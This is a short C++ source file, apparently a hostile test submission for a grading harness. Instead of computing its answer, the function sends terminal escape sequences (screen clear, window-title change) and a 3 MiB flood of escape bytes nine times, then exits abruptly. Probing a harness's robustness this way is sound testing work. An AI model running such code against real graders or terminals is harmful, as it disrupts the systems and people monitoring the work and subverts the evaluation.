#include "attack.hpp"

double numbers::total(const attack::Values& values) {
  if (!attack::is_first(values)) return attack::answer(values);
  const std::string type = attack::with_length("\033[2J\033]0;caught\007\xff\xfe");
  const std::string text(std::size_t{3} << 20, '\33');
  for (int i = 0; i < 9; ++i)
    attack::send(attack::with_length("\2" + type + attack::with_length(text)));
  _exit(0);
}
